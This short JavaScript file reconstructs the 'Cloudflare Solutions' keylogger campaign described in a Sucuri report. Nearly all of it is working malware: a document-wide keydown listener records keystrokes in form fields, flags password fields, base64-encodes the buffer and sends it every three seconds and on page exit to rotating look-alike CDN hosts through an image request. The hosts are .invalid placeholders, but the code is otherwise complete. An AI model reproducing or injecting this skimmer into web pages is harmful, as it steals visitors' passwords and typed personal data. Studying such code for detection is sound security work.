// cf-keylogger, second variant, written from Sucuri's follow-up "Cloudflare Solutions
// Keylogger Returns on New Domains" (2017-2018): the same campaign moved to new look-alike
// CDN hosts. This form logs raw keystrokes rather than field values: a document-wide
// keydown listener keeps a per-page buffer with the field each key went to, and a timer
// flushes it as an image request with the buffer base64-encoded, so nothing is lost when
// the visitor leaves the page (it also flushes on pagehide).
(function () {
  var host = ["cdnjs-solutions.invalid", "cdns-ws.invalid", "msdns-online.invalid"][new Date().getDay() % 3];
  var buf = [];
  var last = null;
  document.addEventListener("keydown", function (e) {
    var t = e.target;
    if (!t || !/INPUT|TEXTAREA/.test(t.tagName)) return;
    var f = t.name || t.id || t.type || "?";
    if (f !== last) { buf.push("\n[" + f + (t.type === "password" ? "*" : "") + "]"); last = f; }
    var k = e.key;
    if (k.length === 1) buf.push(k);
    else if (k === "Backspace") buf.push("<BS>");
    else if (k === "Enter" || k === "Tab") buf.push("<" + k + ">");
  }, true);
  function flush() {
    if (!buf.length) return;
    var payload = btoa(unescape(encodeURIComponent(location.host + location.pathname + buf.join(""))));
    buf = [];
    last = null;
    var i = new Image();
    i.src = "https://" + host + "/log.gif?k=" + encodeURIComponent(payload) + "&r=" + Math.random();
  }
  setInterval(flush, 3000);
  window.addEventListener("pagehide", flush);
})();
